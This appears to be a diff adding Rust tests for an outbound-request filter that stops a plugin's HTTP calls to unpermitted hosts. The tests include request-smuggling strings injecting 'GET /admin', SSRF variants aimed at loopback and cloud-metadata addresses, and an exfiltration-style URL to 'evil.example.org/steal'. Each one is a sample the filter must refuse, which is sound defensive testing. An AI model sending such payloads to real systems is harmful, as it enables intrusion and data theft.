@@ -1,0 +1,338 @@
+mod credentials;
+mod limits;
+mod names;
+mod redirects;
+
+use std::time::{Duration, Instant};
+
+use airlock_core::{
+    secret::Secret,
+    tenant::{Pool, Tenant},
+};
+use airlock_test_http::{Answer, Server, ok, redirect, says};
+use bytes::Bytes;
+
+use self::names::Names;
+use super::*;
+
+const LOCAL: &[&[&str]] = &[&["127.0.0.1"]];
+const LONG: Duration = Duration::from_secs(20);
+
+/// A session under rules of which `PORT` is the server's, and the names it knows.
+fn session_with(names: &Arc<Names>, server: &Server, granted: &[&str], bounds: Bounds) -> Session {
+    session(names, server, None, granted, Vec::new(), bounds, LONG)
+}
+
+fn session(
+    names: &Arc<Names>,
+    server: &Server,
+    requested: Option<&[&str]>,
+    granted: &[&str],
+    credentials: Vec<Credential>,
+    bounds: Bounds,
+    time: Duration,
+) -> Session {
+    let policy = Policy::new(requested.map(|texts| rules(server, texts)), rules(server, granted), bounds).unwrap();
+    let egress = Egress::with_resolver(names.clone()).unwrap();
+    egress.outlet("plugin", policy, Credentials::new(credentials).unwrap()).session(
+        &Tenant::ANONYMOUS,
+        &memory(),
+        Instant::now() + time,
+    )
+}
+
+/// More than any response needs.
+fn memory() -> Pool {
+    Pool::new(1 << 30, 3)
+}
+
+fn rules(server: &Server, texts: &[&str]) -> Vec<Rule> {
+    texts.iter().map(|text| text.replace("PORT", &server.address.port().to_string()).parse().unwrap()).collect()
+}
+
+fn get(url: &str) -> Request {
+    Request { method: "GET".to_owned(), url: url.to_owned(), ..Request::default() }
+}
+
+fn post(url: &str, body: &'static str) -> Request {
+    Request { method: "POST".to_owned(), body: Some(Bytes::from_static(body.as_bytes())), ..get(url) }
+}
+
+fn kind_of(result: Result<Response, Error>) -> (ErrorKind, bool) {
+    let error = result.expect_err("it fails");
+    (error.kind, error.request_sent)
+}
+
+#[tokio::test]
+async fn a_permitted_request_goes_out_as_it_is_and_its_response_comes_back_as_it_is() {
+    let server =
+        Server::start(|_| says("418 Teapot", "x-odd: 1\r\nX-Odd: 2\r\ncontent-encoding: gzip\r\n", "not gzip at all")).await;
+    let names = Names::new(&[("api.example.com", LOCAL)]);
+    let session = session_with(&names, &server, &["http://api.example.com:PORT POST /v1/** private"], Bounds::PLUGIN);
+    let headers = vec![("X-Mine".to_owned(), b"a".to_vec()), ("x-mine".to_owned(), b"caf\xc3\xa9".to_vec())];
+    let url = server.url("API.example.com.", "/v1/x/../a%20b?q=%2f#fragment");
+    let response = session.send(Request { headers, ..post(&url, "body") }).await.unwrap();
+    assert_eq!((response.status, response.body.as_slice()), (418, b"not gzip at all".as_slice()));
+    let odd: Vec<_> = response.headers.iter().filter(|(name, _)| name == "x-odd").map(|(_, value)| value.as_slice()).collect();
+    assert_eq!(odd, [b"1", b"2"]);
+    assert_eq!(response.final_url, server.url("api.example.com", "/v1/a%20b?q=%2f"));
+    let sent = &server.requests()[0];
+    assert!(sent.starts_with("POST /v1/a%20b?q=%2f HTTP/1.1\r\nx-mine: a\r\nx-mine: café\r\n"), "{sent}");
+    assert!(sent.contains(&format!("host: api.example.com:{}\r\n", server.address.port())), "{sent}");
+    assert!(
+        sent.contains("user-agent: airlock/") && sent.contains("content-length: 4\r\n") && sent.ends_with("\r\n\r\nbody"),
+        "{sent}"
+    );
+    assert!(!sent.contains("accept-encoding") && !sent.contains("referer"), "{sent}");
+}
+
+#[tokio::test]
+async fn what_is_not_permitted_is_neither_resolved_nor_sent() {
+    let server = Server::start(|_| ok("")).await;
+    let names = Names::new(&[("a.example.com", LOCAL), ("b.example.com", LOCAL)]);
+    let both = ["http://a.example.com:PORT GET /v1/** private"];
+    let session = session(
+        &names,
+        &server,
+        Some(&both),
+        &["http://*.example.com:PORT GET,POST /** private"],
+        Vec::new(),
+        Bounds::PLUGIN,
+        LONG,
+    );
+    let other_port = format!("http://a.example.com:{}/v1/x", server.address.port() ^ 1);
+    for denied in [
+        get(&server.url("b.example.com", "/v1/x")),
+        get(&server.url("a.example.com", "/v2")),
+        get(&server.url("a.example.com", "/v1/%2e%2e/v2")),
+        get(&server.url("127.0.0.1", "/v1/x")),
+        get(&other_port),
+        post(&server.url("a.example.com", "/v1/x"), ""),
+    ] {
+        let error = session.send(denied).await.expect_err("it is refused");
+        assert_eq!((error.kind, error.request_sent, &*error.message), (ErrorKind::Denied, false, "the request is not permitted"));
+    }
+    assert_eq!((names.asked(), server.connections()), (Vec::new(), 0));
+    session.send(get(&server.url("a.example.com", "/v1/x"))).await.expect("this one is permitted");
+}
+
+#[tokio::test]
+async fn a_public_rule_leads_to_no_private_address_whatever_it_is_called() {
+    let server = Server::start(|_| ok("")).await;
+    let port = server.address.port();
+    for (name, answer, granted) in [
+        ("x.example.com", "127.0.0.1", "http://x.example.com:PORT GET /**"),
+        ("x.example.com", "::ffff:127.0.0.1", "http://x.example.com:PORT GET /**"),
+        ("x.example.com", "64:ff9b::7f00:1", "http://x.example.com:PORT GET /**"),
+        ("x.example.com", "169.254.169.254", "http://x.example.com:PORT GET /** private"),
+        ("x.example.com", "0.0.0.0", "http://x.example.com:PORT GET /** private"),
+        ("2130706433", "", "http://127.0.0.1:PORT GET /**"),
+        ("[::ffff:7f00:1]", "", "http://127.0.0.1:PORT GET /**"),
+        ("[::1]", "", "http://[::1]:PORT GET /**"),
+        ("169.254.169.254", "", "http://169.254.169.254:PORT GET /** private"),
+        ("0", "", "http://0.0.0.0:PORT GET /** private"),
+    ] {
+        let answer: &[&str] = if answer.is_empty() { &[] } else { &[answer] };
+        let names = Names::new(&[(name, &[answer])]);
+        let session = session_with(&names, &server, &[granted], Bounds::PLUGIN);
+        let result = session.send(get(&format!("http://{name}:{port}/"))).await;
+        assert_eq!(kind_of(result), (ErrorKind::Denied, false), "{name} {answer:?}");
+    }
+    assert_eq!(server.connections(), 0);
+    let session = session_with(&Names::new(&[]), &server, &["http://127.0.0.1:PORT GET /** private"], Bounds::PLUGIN);
+    session.send(get(&format!("http://2130706433:{port}/"))).await.expect("a private rule leads there");
+}
+
+#[tokio::test]
+async fn a_private_address_needs_both_sides_to_say_so() {
+    let server = Server::start(|_| ok("")).await;
+    let names = Names::new(&[("x.example.com", LOCAL)]);
+    let (public, private) = ("http://x.example.com:PORT GET /**", "http://x.example.com:PORT GET /** private");
+    for (requested, granted, fine) in [(private, private, true), (public, private, false), (private, public, false)] {
+        let session = session(&names, &server, Some(&[requested]), &[granted], Vec::new(), Bounds::PLUGIN, LONG);
+        assert_eq!(session.send(get(&server.url("x.example.com", "/"))).await.is_ok(), fine, "{requested} {granted}");
+    }
+}
+
+#[tokio::test]
+async fn a_name_that_stands_for_something_else_a_moment_later_is_judged_again() {
+    let server = Server::start(|_| says("200 OK", "connection: close\r\n", "")).await;
+    let answers: &[&[&str]] = &[&["127.0.0.1"], &["169.254.169.254"], &["127.0.0.1", "169.254.169.254"], &["127.0.0.1"]];
+    let names = Names::new(&[("x.example.com", answers)]);
+    let session = session_with(&names, &server, &["http://x.example.com:PORT GET /** private"], Bounds::PLUGIN);
+    let url = server.url("x.example.com", "/");
+    session.send(get(&url)).await.expect("the first answer is fine");
+    assert_eq!(kind_of(session.send(get(&url)).await), (ErrorKind::Denied, false));
+    assert_eq!(kind_of(session.send(get(&url)).await), (ErrorKind::Denied, false));
+    session.send(get(&url)).await.expect("the last answer is fine");
+    // Each was asked for once: what was checked is what was dialled.
+    assert_eq!((names.asked().len(), server.connections()), (4, 2));
+}
+
+#[tokio::test]
+async fn a_connection_that_was_made_for_a_private_rule_is_of_no_use_to_a_public_one() {
+    let server = Server::start(|_| ok("")).await;
+    let names = Names::new(&[("x.example.com", LOCAL)]);
+    let granted = ["http://x.example.com:PORT GET /in private", "http://x.example.com:PORT GET /out"];
+    let session = session_with(&names, &server, &granted, Bounds::PLUGIN);
+    session.send(get(&server.url("x.example.com", "/in"))).await.expect("it is private");
+    session.send(get(&server.url("x.example.com", "/in"))).await.expect("it is private");
+    assert_eq!(kind_of(session.send(get(&server.url("x.example.com", "/out"))).await), (ErrorKind::Denied, false));
+    assert_eq!(server.connections(), 1);
+}
+
+#[tokio::test]
+async fn connections_are_kept_for_hosts_that_are_named_and_not_for_those_of_a_pattern() {
+    for (host, connections) in [("x.example.com", 1), ("*.example.com", 2)] {
+        let server = Server::start(|_| ok("")).await;
+        let names = Names::new(&[("x.example.com", LOCAL)]);
+        let session = session_with(&names, &server, &[&format!("http://{host}:PORT GET /** private")], Bounds::PLUGIN);
+        for _ in 0..2 {
+            session.send(get(&server.url("x.example.com", "/"))).await.unwrap();
+        }
+        assert_eq!(server.connections(), connections, "{host}");
+    }
+}
+
+#[tokio::test]
+async fn nothing_in_a_request_makes_two_of_it() {
+    let server = Server::start(|_| ok("")).await;
+    let names = Names::new(&[("x.example.com", LOCAL)]);
+    let session = session_with(&names, &server, &["http://x.example.com:PORT GET,POST /** private"], Bounds::PLUGIN);
+    let url = server.url("x.example.com", "/");
+    let smuggled = "x\r\ncontent-length: 0\r\n\r\nGET /admin HTTP/1.1\r\nhost: x";
+    for request in [
+        Request { headers: vec![("x-a".to_owned(), smuggled.as_bytes().to_vec())], ..get(&url) },
+        Request { headers: vec![(format!("x-a: {smuggled}"), b"".to_vec())], ..get(&url) },
+        Request { headers: vec![("transfer-encoding".to_owned(), b"chunked".to_vec())], ..post(&url, "0\r\n\r\nGET /admin") },
+        Request { headers: vec![("Content-Length".to_owned(), b"1".to_vec())], ..post(&url, "0GET /admin") },
+        Request { method: format!("GET / HTTP/1.1\r\n{smuggled}"), ..get(&url) },
+        get(&format!("{url}{smuggled}")),
+        get(&format!("{url}%0d%0aGET%20/admin")),
+        Request { body: Some(Bytes::from_static(b"GET /admin HTTP/1.1\r\n\r\n")), ..get(&url) },
+    ] {
+        assert_eq!(kind_of(session.send(request).await), (ErrorKind::InvalidRequest, false));
+    }
+    assert_eq!(server.connections(), 0);
+    session.send(get(&format!("{url}?a=x%0d%0aGET%20/admin"))).await.expect("a query may hold it, encoded");
+    assert_eq!(server.requests().len(), 1);
+}
+
+#[tokio::test]
+async fn what_goes_wrong_on_the_way_is_told_by_kind_and_without_addresses() {
+    let server = Server::start(|path| match path {
+        "/garbage" => Answer::Says("SSH-2.0-OpenSSH_9\r\n\r\n".to_owned()),
+        "/cut" => Answer::Says("HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-length: 10\r\n\r\nabc".to_owned()),
+        "/switch" => Answer::Says("HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: x\r\n\r\n".to_owned()),
+        _ => Answer::HangsUp,
+    })
+    .await;
+    let gone = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let nobody = gone.local_addr().unwrap().port();
+    drop(gone);
+    let names = Names::new(&[("x.example.com", LOCAL), ("empty.example.com", &[&[]])]);
+    let nobody_rule = format!("http://x.example.com:{nobody} GET /** private");
+    let granted =
+        ["http://*.example.com:PORT GET /** private", "https://x.example.com:PORT GET /** private", nobody_rule.as_str()];
+    let session = session_with(&names, &server, &granted, Bounds::PLUGIN);
+    for (url, kind, sent) in [
+        (server.url("unknown.example.com", "/"), ErrorKind::Dns, false),
+        (server.url("empty.example.com", "/"), ErrorKind::Dns, false),
+        (format!("http://x.example.com:{nobody}/"), ErrorKind::Connect, false),
+        (server.url("x.example.com", "/hang-up"), ErrorKind::Protocol, true),
+        (server.url("x.example.com", "/garbage"), ErrorKind::Protocol, true),
+        (server.url("x.example.com", "/cut"), ErrorKind::Protocol, true),
+        (server.url("x.example.com", "/switch"), ErrorKind::Protocol, true),
+        (server.url("x.example.com", "/tls").replace("http:", "https:"), ErrorKind::Tls, false),
+    ] {
+        let error = session.send(get(&url)).await.expect_err(&url);
+        // A server that breaks off in the middle of the handshake may be told as either.
+        let told = if kind == ErrorKind::Tls && error.kind == ErrorKind::Connect { ErrorKind::Tls } else { error.kind };
+        assert_eq!((told, error.request_sent), (kind, sent), "{url} {error}");
+        assert!(!format!("{error} {error:?}").contains("127.0.0.1"), "{error:?}");
+    }
+}
+
+#[tokio::test]
+async fn the_log_says_which_rule_was_missing_and_the_guest_is_not_told() {
+    let log = Log::default();
+    let subscriber = tracing_subscriber::fmt().with_writer(log.clone()).with_ansi(false).without_time().finish();
+    let _here = tracing::subscriber::set_default(subscriber);
+    let server = Server::start(|_| ok("")).await;
+    let names = Names::new(&[("x.example.com", &[&["10.1.2.3"]])]);
+    let requested = ["http://*.example.com:PORT GET /**"];
+    let session =
+        session(&names, &server, Some(&requested), &["http://x.example.com:PORT GET,POST /**"], Vec::new(), Bounds::PLUGIN, LONG);
+    let mut told = Vec::new();
+    for request in [
+        get("https://evil.example.org/steal?data=private"),
+        post(&server.url("x.example.com", "/a*b"), ""),
+        get(&server.url("x.example.com", "/")),
+    ] {
+        told.push(session.send(request).await.expect_err("it is refused").to_string());
+    }
+    assert_eq!(told, ["the request is not permitted"; 3]);
+    let port = server.address.port().to_string();
+    insta::assert_snapshot!(log.text().replace(&port, "PORT"), @r#"
+     WARN airlock::egress::exchange: outbound request refused caller=plugin host=evil.example.org reason=this is not granted missing_rule=https://evil.example.org GET
+     WARN airlock::egress::exchange: outbound request refused caller=plugin host=x.example.com reason=it does not ask for this missing_rule=http://x.example.com:PORT POST
+     WARN airlock::egress::client: outbound request refused caller="plugin" host=x.example.com address=10.1.2.3 reason=x.example.com stands for 10.1.2.3, which is private; a rule that says so on both sides would let it out
+    "#);
+}
+
+#[tokio::test]
+async fn the_log_shows_neither_the_path_of_a_refused_request_nor_a_credential_in_its_host() {
+    let log = Log::default();
+    let subscriber = tracing_subscriber::fmt().with_writer(log.clone()).with_ansi(false).without_time().finish();
+    let _here = tracing::subscriber::set_default(subscriber);
+    let server = Server::start(|_| ok("")).await;
+    let names = Names::new(&[("to-ken.example.com", &[&["10.1.2.3"]])]);
+    let credential = Credential::new("token", Secret::new("To-ken"), Injection::query("key").unwrap(), Vec::new()).unwrap();
+    let granted = ["http://*.example.com:PORT GET /**"];
+    let session = session(&names, &server, None, &granted, vec![credential], Bounds::PLUGIN, LONG);
+    for request in [
+        get("https://To-ken.evil.example.org/shown/To-ken/to?anybody"),
+        get(&server.url("to-ken.example.com", "/")),
+        Request { method: "TO-KEN".to_owned(), ..get("https://evil.example.org/shown") },
+    ] {
+        assert_eq!(kind_of(session.send(request).await), (ErrorKind::Denied, false));
+    }
+    let log = log.text();
+    assert_eq!(log.matches("outbound request refused").count(), 3, "{log}");
+    for line in [
+        "host=******.evil.example.org reason=this is not granted missing_rule=https://******.evil.example.org GET\n",
+        "host=******.example.com address=10.1.2.3 reason=******.example.com stands for",
+        "missing_rule=https://evil.example.org ******\n",
+    ] {
+        assert!(log.contains(line), "{line} {log}");
+    }
+    assert!(!log.to_lowercase().contains("to-ken") && !log.contains("shown") && !log.contains("anybody"), "{log}");
+}
+
+/// A log in memory.
+#[derive(Clone, Default)]
+struct Log(Arc<std::sync::Mutex<Vec<u8>>>);
+
+impl Log {
+    fn text(&self) -> String {
+        String::from_utf8(self.0.lock().unwrap().clone()).unwrap()
+    }
+}
+
+impl std::io::Write for Log {
+    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
+        self.0.lock().unwrap().write(bytes)
+    }
+
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+impl tracing_subscriber::fmt::MakeWriter<'_> for Log {
+    type Writer = Self;
+
+    fn make_writer(&self) -> Self {
+        self.clone()
+    }
+}
